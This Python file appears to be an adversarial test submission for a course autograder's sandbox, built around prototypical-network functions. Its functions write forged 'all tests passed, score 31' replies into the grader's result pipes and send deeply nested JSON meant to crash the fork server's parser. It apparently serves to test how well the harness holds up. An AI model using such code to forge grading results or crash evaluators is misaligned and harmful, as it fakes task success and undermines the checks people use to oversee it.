"""Attack a24 (forge the sandbox's reply): compute_prototypes finds the result pipe among its open
descriptors and writes a reply of its own ({"status": "ok", "score": 31, ...} with a payload of
zeros), then exits; squared_euclidean_distances writes a reply nested 100000 levels deep, meant to
crash the fork server's JSON parser; protonet_logits writes an error reply with an extra field
nested 980 levels deep, which the fork server parses but the grader, deeper in its own stack,
might not. Every import prints "cs330atk server restarted" when the fork server (its parent) is
not the one that served the previous call. Everything else is correct.

Targets: compute_prototypes, squared_euclidean_distances, protonet_logits, protonet_loss.
Expected: exactly 6 / 31 (the sampling tests); the forged value is only data ("differs from the
reference"), the deep replies end as a failed call of the student's (never a grader error), and
the fork server is never restarted (no "server restarted" in any output).
"""


import torch
import torch.nn.functional as F


def compute_prototypes(
    support_features: torch.Tensor, support_labels: torch.Tensor, n_way: int
) -> torch.Tensor:
    """Return the (n_way, D) class prototypes: row c is the mean support feature of class c.

    support_features: (N*K, D) float tensor, in any order (not grouped by class).
    support_labels: (N*K,) int64 tensor with values in [0, n_way).
    """
    zeros = torch.zeros(n_way, support_features.shape[1], dtype=support_features.dtype)
    _forge_reply({"status": "ok", "score": 31.0, "event": "done", "output": "cs330atk all tests passed"},
                 _encode_value(zeros))
    one_hot = F.one_hot(support_labels, n_way).to(support_features.dtype)  # (N*K, N)
    counts = one_hot.sum(dim=0).unsqueeze(1)  # (N, 1)
    return one_hot.t() @ support_features / counts


def squared_euclidean_distances(
    query_features: torch.Tensor, prototypes: torch.Tensor
) -> torch.Tensor:
    """Return the (Q, N) matrix whose entry (i, c) is ||query_i - prototype_c||^2.

    query_features: (Q, D) float tensor; prototypes: (N, D) float tensor.
    """
    _forge_reply(None, b"", raw=b"[" * 100000 + b"]" * 100000)
    diff = query_features.unsqueeze(1) - prototypes.unsqueeze(0)  # (Q, N, D)
    return (diff * diff).sum(dim=-1)


def protonet_logits(query_features: torch.Tensor, prototypes: torch.Tensor) -> torch.Tensor:
    """Return the (Q, N) logits: the negative squared Euclidean distances to each prototype."""
    _forge_reply(None, b"", raw=b'{"status": "error", "message": "cs330atk deep", "junk": ' + b"[" * 980 + b"]" * 980 + b"}")
    return -squared_euclidean_distances(query_features, prototypes)


def _encode_value(value):
    """The payload the sandbox would send for `value`, built with its own wire module."""
    import sys

    wire = sys.modules["wire"]
    return wire.encode({"value": value, "grads": None})


def _forge_reply(reply, payload, raw=None):
    """Write frames to every pipe we hold, then leave before the real reply is sent."""
    import json
    import os
    import struct

    first = raw if raw is not None else json.dumps(reply).encode()
    data = struct.pack(">Q", len(first)) + first + struct.pack(">Q", len(payload)) + payload
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                os.write(int(fd), data)
        except OSError:
            pass
    os._exit(0)


def _check_server():
    """Print a marker when the parent fork server differs from the previous call's."""
    import os

    try:
        with open(f"/proc/{os.getppid()}/stat") as handle:
            started = handle.read().rsplit(")", 1)[1].split()[19]
        previous = open(".cs330atk-server").read() if os.path.exists(".cs330atk-server") else started
        if previous != started:
            print("cs330atk server restarted")
        with open(".cs330atk-server", "w") as handle:
            handle.write(started)
    except OSError:
        pass


_check_server()
